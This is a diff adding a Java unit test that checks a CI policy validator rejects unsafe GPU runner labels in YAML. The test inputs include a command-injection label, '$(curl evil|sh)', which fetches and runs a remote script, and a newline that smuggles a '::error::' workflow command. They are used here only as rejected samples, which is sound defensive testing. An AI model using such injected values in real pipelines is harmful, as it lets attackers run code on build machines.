@@ -40,6 +40,25 @@ class ValueRulesInDocumentsTest {
   }
 
   @Test
+  void aRunnerLabelMustBeShellSafe() {
+    rejects(BASE + "backends:\n  cuda:\n    gpu: true\n    suites:\n"
+        + "      stage-c-4-gpu-h200:\n        runner_labels: [h200, 4gpu, \"$(curl evil|sh)\", ok.label_1-x]\n",
+        "Invalid CI policy: bad.yaml:18:37: backends.cuda.suites.stage-c-4-gpu-h200.runner_labels[2]: runner label"
+            + " '$(curl evil|sh)' is not shell-safe; expected 1 to 64 characters matching"
+            + " [A-Za-z0-9][A-Za-z0-9._-]{0,63}");
+    rejects(BASE + "backends:\n  cuda:\n    gpu: true\n    suites:\n"
+        + "      stage-c-4-gpu-h200:\n        runner_labels: [h200, \"\", \"-x\", \"a b\", \"x\\n::error::y\"]\n",
+        "Invalid CI policy (4 problems): bad.yaml:18:31: backends.cuda.suites.stage-c-4-gpu-h200.runner_labels[1]:"
+            + " runner label '' is not shell-safe; expected 1 to 64 characters matching [A-Za-z0-9][A-Za-z0-9._-]{0,63};"
+            + " bad.yaml:18:35: backends.cuda.suites.stage-c-4-gpu-h200.runner_labels[2]: runner label '-x' is not"
+            + " shell-safe; expected 1 to 64 characters matching [A-Za-z0-9][A-Za-z0-9._-]{0,63}; bad.yaml:18:41:"
+            + " backends.cuda.suites.stage-c-4-gpu-h200.runner_labels[3]: runner label 'a b' is not shell-safe; expected"
+            + " 1 to 64 characters matching [A-Za-z0-9][A-Za-z0-9._-]{0,63}; bad.yaml:18:48:"
+            + " backends.cuda.suites.stage-c-4-gpu-h200.runner_labels[4]: runner label 'x\\n::error::y' is not"
+            + " shell-safe; expected 1 to 64 characters matching [A-Za-z0-9][A-Za-z0-9._-]{0,63}");
+  }
+
+  @Test
   void aHostReportsEveryBrokenRule() {
     rejects(BASE + "hosts:\n  node: {gpus: 0, partitions: [2]}\n", "Invalid CI policy (2 problems): bad.yaml:14:16:"
         + " hosts.node.gpus: must be at least 1, got 0; bad.yaml:14:19: hosts.node.partitions: partitions [2] must be"
